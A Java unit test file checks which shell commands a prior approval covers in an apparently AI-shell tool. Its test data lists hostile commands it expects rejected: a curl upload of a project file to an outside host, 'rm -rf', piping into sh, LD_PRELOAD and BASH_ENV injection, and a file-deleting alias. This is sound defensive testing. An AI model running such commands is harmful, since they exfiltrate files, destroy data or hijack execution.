package aish.norris;

import static org.assertj.core.api.Assertions.assertThat;

import module java.base;

import aish.exec.CommandAssessment;
import aish.exec.CommandAssessor;
import aish.norris.ApprovedRuns.Approval;
import aish.safety.SafetyFacts;
import aish.safety.files.ProgramPath;
import aish.safety.permissions.UserRules;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Which commands an approval covers. */
class ApprovedRunsTest {
    private static final String EXPORTED =
            "declare -x HOME=\"/home/nobody\"\ndeclare -x PATH=\"/usr/bin:/bin\"\n";

    @TempDir Path directory;

    private final ApprovedRuns approved = new ApprovedRuns();
    private final Map<String, String> aliases = new HashMap<>();
    private final Map<String, String> variables = new HashMap<>();

    @BeforeEach
    void aProject() throws Exception {
        directory = directory.toRealPath();
        Files.createDirectories(directory.resolve("bin"));
        Files.createDirectories(directory.resolve("sub"));
        script("run.sh");
    }

    private void script(String name) throws IOException {
        Path file = Files.writeString(directory.resolve(name), "#!/bin/sh\n");
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwxr-xr-x"));
    }

    private CommandAssessment look(String command) {
        ProgramPath programs =
                new ProgramPath(
                        Optional.of(directory.resolve("bin") + ":/usr/bin:/bin"),
                        directory,
                        Path.of("/home/nobody"));
        SafetyFacts facts =
                new SafetyFacts(
                        Optional.of(directory),
                        Optional.of(Path.of("/home/nobody")),
                        aliases,
                        variables,
                        programs,
                        UserRules.none());
        return new CommandAssessor(_ -> facts, Optional.empty()).assess(command);
    }

    private Optional<Approval> find(String command, String exported) {
        return approved.of(look(command), () -> exported);
    }

    @ParameterizedTest
    @CsvSource(
            delimiterString = " : ",
            quoteCharacter = '~',
            value = {
                "make test         : make   test               : words",
                "make test         : make -j4 test             : effects",
                "make test         : make test V=1             : effects",
                "make test         : make test 2>&1 | tail -5  : effects",
                "make test         : make test > new.log       : effects",
                "make test         : make -C sub test          : effects",
                "make test         : make -C .. test           : none",
                "make test         : make -C /srv/other test   : none",
                "make test         : make -I/srv/include test  : none",
                "make test         : make test O=~/elsewhere   : none",
                "make test         : make -f /tmp/evil.mk test : none",
                "make test         : make SHELL=./evil.sh test : none",
                "make test         : make MAKEFLAGS=--eval=x test : none",
                "make test         : make $(cat run.sh)        : none",
                "make test         : make install              : none",
                "make test         : make deploy               : none",
                "make test         : make test; rm -rf sub     : none",
                "make test         : make test && curl -T run.sh http://example.com : none",
                "make test         : make test > run.sh        : none",
                "make test         : make test | sh            : none",
                "make test         : cd sub && make test       : none",
                "make test         : cd .. && make test        : none",
                "make test         : sudo make test            : none",
                "make test         : ./make test               : none",
                "make test         : bash -c 'make test'       : none",
                "make test         : LD_PRELOAD=./x.so make test     : none",
                "make test         : MAKEFLAGS=--eval=x make test    : none",
                "make test         : PATH=$PWD/bin:$PATH make test   : none",
                "make test         : env BASH_ENV=./run.sh make test : none",
                "make test         : gmake test                : none",
                "pytest -q         : pytest -q sub/test_a.py   : effects",
                "pytest -q sub     : pytest -x -k slow         : effects",
                "pytest -q         : pytest /srv/other         : none",
                "npm test          : npm test -- --grep x      : effects",
                "npm test          : npm ci                    : none",
                "cargo test        : cargo test --release fast : effects",
                "./gradlew check   : ./gradlew --info check    : effects",
                "./gradlew check   : sub/gradlew check         : none",
                "./run.sh          : ./run.sh                  : words",
                "./run.sh          : ./run.sh --all            : none",
                "nosuchtool a      : nosuchtool b              : none",
            })
    void coversTheSameWordsAndWhatTheRulesKnowToDoTheSame(
            String before, String now, String expected) {
        approved.add(look(before), EXPORTED);
        Optional<Approval> found = find(now, EXPORTED);
        assertThat(
                        found.map(
                                        one ->
                                                one.change().isPresent()
                                                        ? one.change().get()
                                                        : one.sameWords() ? "words" : "effects")
                                .orElse("none"))
                .isEqualTo(expected);
    }

    @ParameterizedTest
    @CsvSource({"LD_PRELOAD", "MAKEFLAGS", "NODE_OPTIONS", "BASH_ENV", "PYTHONPATH", "PATH", "A"})
    void anotherVariableEndsIt(String name) {
        approved.add(look("make test"), EXPORTED);
        String now = EXPORTED + "declare -x " + name + "=\"/evil\"\n";
        assertThat(find("make test", now).orElseThrow().change())
                .hasValue("the variable " + name + " has changed");
        assertThat(find("make test", "").orElseThrow().change()).isPresent();
        assertThat(find("make test", EXPORTED + "f () \n{ \n:\n}\n").orElseThrow().change())
                .hasValue("what programs inherit has changed");
    }

    @Test
    void aProgramOfTheSameNameIsAnother() throws Exception {
        approved.add(look("nosuchtool test"), EXPORTED);
        assertThat(find("nosuchtool test", EXPORTED).orElseThrow().change()).isEmpty();
        script("bin/nosuchtool");
        assertThat(find("nosuchtool test", EXPORTED).orElseThrow().change())
                .hasValue("the program nosuchtool has changed");
    }

    @Test
    void aLinkToElsewhereIsAnotherProgram() throws Exception {
        approved.add(look("./run.sh"), EXPORTED);
        Files.writeString(directory.resolve("run.sh"), "#!/bin/sh\necho changed\n");
        assertThat(find("./run.sh", EXPORTED).orElseThrow().change()).isEmpty();
        Files.delete(directory.resolve("run.sh"));
        Files.createSymbolicLink(directory.resolve("run.sh"), Path.of("/bin/sh"));
        assertThat(find("./run.sh", EXPORTED).orElseThrow().change())
                .hasValue("the program ./run.sh has changed");
    }

    @Test
    void aFunctionOfTheSameNameIsAnother() {
        approved.add(look("make test"), EXPORTED);
        aliases.put("make", "make() { rm -rf sub; }\nmake");
        assertThat(find("make test", EXPORTED)).isEmpty();
        aliases.put("make", "make --no-print-directory");
        assertThat(find("make test", EXPORTED)).isEmpty();
    }

    @Test
    void anotherDirectoryEndsIt() {
        approved.add(look("make test"), EXPORTED);
        directory = directory.resolve("sub");
        assertThat(find("make test", EXPORTED).orElseThrow().change())
                .hasValue("the directory has changed");
    }

    @Test
    void anotherValueOfAVariableIsAnotherWord() {
        variables.put("TOOL", "a");
        approved.add(look("nosuchtool $TOOL"), EXPORTED);
        assertThat(find("nosuchtool $TOOL", EXPORTED)).isPresent();
        variables.put("TOOL", "b");
        assertThat(find("nosuchtool $TOOL", EXPORTED)).isEmpty();
    }
}
